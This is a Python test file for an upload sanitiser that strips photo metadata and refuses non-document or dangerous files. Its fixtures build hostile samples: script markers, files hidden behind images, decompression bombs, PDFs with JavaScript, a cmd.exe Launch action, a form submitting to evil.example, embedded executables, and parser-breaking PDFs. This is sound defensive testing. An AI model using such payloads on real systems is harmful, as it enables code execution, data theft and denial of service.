"""Files that are no paper, or more than one: each refused by name, quickly, without harm."""

import io
import time
import zipfile
from collections.abc import Callable

import pypdf
import pytest
from flask import Flask
from PIL import Image

from core.errors import RuleError, text_of
from core.evidence.cleaning import clean
from tests.core.evidence.papers import (
    noise,
    pdf,
    pdf_in_object_streams,
    photo,
    saved,
    scan,
    stream,
)

pytestmark = pytest.mark.usefixtures("in_app")
MARK = b"<script>alert(1)</script>"
LONGEST_S = 5


def refused(content: bytes) -> str:
    started = time.monotonic()
    with pytest.raises(RuleError) as caught:
        clean(content)
    assert time.monotonic() - started < LONGEST_S
    assert text_of(caught.value) is not None
    return caught.value.code


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(clean(content).content))


def test_a_photo_loses_the_place_where_it_was_taken_and_stands_upright():
    kept = clean(photo((1200, 900)))
    image = Image.open(io.BytesIO(kept.content))
    assert (kept.media_type, kept.pages, image.format) == ("image/jpeg", 1, "JPEG")
    assert image.size == (900, 1200)
    assert dict(image.getexif()) == {}
    assert b"SECRETPHONE" not in kept.content
    assert b"Exif" not in kept.content
    assert image.convert("L").getpixel((890, 10)) < 60  # the black corner came to the right


def test_a_large_photo_becomes_smaller_and_a_long_screenshot_stays_legible():
    width, height = opened(photo((4032, 3024), exif=False)).size
    assert 7_900_000 < width * height < 8_100_000
    assert width / height == pytest.approx(4032 / 3024, rel=0.01)
    width, height = opened(saved(Image.new("L", (1080, 12_000)), "JPEG")).size
    assert width > 800


def test_a_small_photo_keeps_its_size():
    assert opened(photo((800, 600), exif=False)).size == (800, 600)


@pytest.mark.parametrize(
    "image",
    [
        Image.new("RGBA", (60, 40), (255, 0, 0, 0)), Image.new("LA", (60, 40), (0, 0)),
        Image.new("P", (60, 40)), Image.new("I;16", (60, 40), 65535), Image.new("1", (60, 40), 1),
    ],
    ids=["transparent", "grey-transparent", "palette", "16-bit", "black-and-white"],
)  # fmt: skip
def test_scans_of_every_kind_stay_scans(image: Image.Image):
    kept = clean(saved(image, "PNG"))
    assert kept.media_type == "image/png"
    pixel = Image.open(io.BytesIO(kept.content)).convert("L").getpixel((5, 5))
    assert pixel == (0 if image.mode == "P" else 255)


def test_a_photo_saved_as_png_is_kept_as_a_photo():
    kept = clean(saved(noise((1400, 1000)), "PNG"))
    assert kept.media_type == "image/jpeg"
    assert len(kept.content) < 4_200_000


def test_a_photo_in_printing_colours_is_read():
    assert opened(saved(Image.new("CMYK", (60, 40)), "JPEG")).mode == "RGB"


def zipped(name: str = "a.html") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, MARK)
    return buffer.getvalue()


@pytest.mark.parametrize("hidden", [MARK, zipped(), pdf(), b"MZ" + MARK])
@pytest.mark.parametrize("picture", [photo(), scan()], ids=["jpeg", "png"])
def test_a_second_file_behind_a_picture_does_not_survive(picture: bytes, hidden: bytes):
    kept = clean(picture + hidden)
    assert hidden not in kept.content
    assert MARK not in kept.content
    assert not zipfile.is_zipfile(io.BytesIO(kept.content))


def test_words_hidden_in_a_picture_do_not_survive():
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Comment", MARK.decode(), zip=False)
    content = saved(Image.new("L", (50, 50)), "PNG", pnginfo=notes)
    comment = saved(Image.new("L", (50, 50)), "JPEG", comment=MARK)
    for each in (content, comment):
        assert MARK in each
        assert MARK not in clean(each).content


def test_a_pdf_is_counted_and_kept_to_the_byte():
    content = pdf(pages=3)
    kept = clean(content)
    assert (kept.content, kept.media_type, kept.pages) == (content, "application/pdf", 3)


def test_pdfs_as_offices_make_them_are_taken():
    from core.reports.pdf import to_pdf

    harmless = pdf(
        {
            100: b"<</FT/Sig/T(seal)/V 101 0 R>>",
            101: b"<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>/ByteRange[0 1 2 3]>>",
            102: b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.cn)>>>>",
        },
        catalog=b"/OpenAction[10 0 R/Fit]/AcroForm<</Fields[100 0 R]/SigFlags 3>>",
        page=b"/Annots[102 0 R]",
    )
    assert clean(harmless).pages == 1
    made = to_pdf("<style>p { break-after: page }</style><p>a</p><p>b</p>")
    assert clean(made).pages == 2


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "evidence_empty"), (b"\xff\xd8\xff" + b"\0" * (10 << 20), "evidence_too_large"),
        (saved(Image.new("RGB", (9, 9)), "GIF"), "evidence_wrong_type"),
        (saved(Image.new("RGB", (9, 9)), "WEBP"), "evidence_wrong_type"),
        (saved(Image.new("RGB", (9, 9)), "TIFF"), "evidence_wrong_type"),
        (b"<html>" + MARK + b"</html>", "evidence_wrong_type"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>" + MARK + b"</svg>", "evidence_wrong_type"),
        (zipped("word/document.xml"), "evidence_wrong_type"), (zipped("OFD.xml"), "evidence_ofd"),
        (b"MZ\x90\0", "evidence_wrong_type"), (b" \n%PDF-1.7\n", "evidence_wrong_type"),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "evidence_heic"),
        (b"\0\0\0\x1cftypmif1\0\0\0\0mif1heicmiaf", "evidence_heic"),
        (b"\0\0\0\x18ftypmp42\0\0\0\0isommp42", "evidence_wrong_type"),
        (b"\xff\xd8\xff" + MARK, "evidence_damaged"), (b"\x89PNG\r\n\x1a\n" + MARK, "evidence_damaged"),
        (b"%PDF-1.7\n" + MARK, "evidence_damaged"), (b"%PDF-1.7\n%%EOF", "evidence_damaged"),
    ],
)  # fmt: skip
def test_what_is_no_paper_is_named(content: bytes, code: str):
    assert refused(content) == code


def test_the_largest_file_is_taken_and_one_byte_more_is_not():
    content = photo()
    largest = content + b"\0" * ((10 << 20) - len(content))
    assert clean(largest).media_type == "image/jpeg"
    assert refused(largest + b"\0") == "evidence_too_large"


@pytest.mark.parametrize("share", [0.05, 0.3, 0.6, 0.9])
@pytest.mark.parametrize("content", [photo(), scan(), pdf(pages=3)], ids=["jpeg", "png", "pdf"])
def test_what_was_not_copied_completely_is_refused(content: bytes, share: float):
    assert refused(content[: int(len(content) * share)]) == "evidence_damaged"


def test_a_picture_of_a_thousand_million_pixels_is_not_unpacked():
    image = Image.new("1", (32_000, 32_000))
    bomb = saved(image, "PNG")
    assert len(bomb) < 200_000
    assert refused(bomb) == "evidence_too_much"


def test_a_picture_that_needs_too_much_memory_ends_its_reader_only(
    make_app: Callable[..., Flask],
):
    content = saved(Image.new("RGB", (9_000, 9_000)), "PNG")
    with make_app(EVIDENCE_MEMORY_MB=160).app_context():
        assert refused(content) in ("evidence_too_much", "evidence_damaged")


def test_a_reader_that_hangs_is_ended(make_app: Callable[..., Flask]):
    with make_app(EVIDENCE_TIMEOUT_S=0.001).app_context():
        assert refused(photo()) == "evidence_too_slow"


def locked(user: str, owner: str, algorithm: str) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(user, owner, algorithm=algorithm)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
@pytest.mark.parametrize("user", ["geheim", ""], ids=["to-open", "to-print"])
def test_a_pdf_with_a_password_is_refused(user: str, algorithm: str):
    assert refused(locked(user, "owner", algorithm)) == "evidence_locked"


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
ACTIVE = {
    "script on opening": pdf(catalog=b"/OpenAction" + SCRIPT),
    "script of a page": pdf(page=b"/AA<</O" + SCRIPT + b">>"),
    "script by name": pdf(catalog=b"/Names<</JavaScript<</Names[(a)100 0 R]>>>>", objects={100: SCRIPT}),
    "script that nothing names": pdf({100: SCRIPT}),
    "script with an escaped name": pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(1)>>"),
    "script in a compressed object": pdf_in_object_streams({7: SCRIPT}, b"/OpenAction 7 0 R"),
    "script outside the table": pdf(unlisted=b"77 0 obj\n" + SCRIPT + b"\nendobj\n"),
    "script next in line": pdf(catalog=b"/OpenAction<</S/GoTo/D[10 0 R/Fit]/Next[" + SCRIPT + b"]>>"),
    "program": pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "program named elsewhere": pdf_in_object_streams(
        {7: b"<</S 8 0 R/F(cmd.exe)>>", 8: b"/Launch"}, b"/OpenAction 7 0 R"
    ),
    "another file": pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"),
    "form that sends": pdf(page=b"/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>"),
    "file inside": pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a)100 0 R]>>>>", objects={
        100: b"<</Type/Filespec/F(a.exe)/EF<</F 101 0 R>>>>", 101: stream(b"/Type/EmbeddedFile", b"MZ"),
    }),
    "file pinned on a page": pdf(page=b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]>>]"),
    "film": pdf(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"),
    "form of its own language": pdf(catalog=b"/AcroForm<</Fields[]/XFA 100 0 R>>", objects={
        100: stream(b"", b"<xdp/>"),
    }),
}  # fmt: skip


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE.keys())
def test_a_pdf_that_could_act_is_refused(content: bytes):
    assert pypdf.PdfReader(io.BytesIO(content)).get_num_pages() == 1
    assert refused(content) == "evidence_active"


def test_another_file_behind_a_pdf_is_refused():
    assert refused(pdf() + zipped()) == "evidence_damaged"
    assert refused(pdf() + MARK) == "evidence_damaged"


def test_a_pdf_of_too_many_pages_is_refused():
    assert clean(pdf(pages=500)).pages == 500
    assert refused(pdf(pages=501)) == "evidence_too_much"


def test_a_pdf_without_pages_is_no_paper():
    assert refused(pdf(pages=0)) == "evidence_damaged"


HOSTILE = {
    "pages in a circle": pdf(catalog=b"").replace(b"/Kids[10 0 R]", b"/Kids[ 2 0 R]"),
    "nested without end": pdf({100: b"[" * 50_000 + b"]" * 50_000}),
    "refers to itself": pdf({100: b"100 0 R", 101: b"<</Length 101 0 R>>\nstream\n\nendstream"}),
    "compressed bomb": pdf_in_object_streams({7: b" " * 200_000_000 + b"1"}),
    "length that lies": pdf({100: b"<</Length 99999999999>>\nstream\nx\nendstream"}),
    "table that lies": pdf().replace(b"/Size 11", b"/Size 99999999"),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_pdf_made_to_break_its_reader_breaks_nothing_here(content: bytes):
    started = time.monotonic()
    try:
        assert clean(content).pages == 1
    except RuleError as error:
        assert error.code in ("evidence_damaged", "evidence_too_much", "evidence_too_slow")
    assert time.monotonic() - started < LONGEST_S
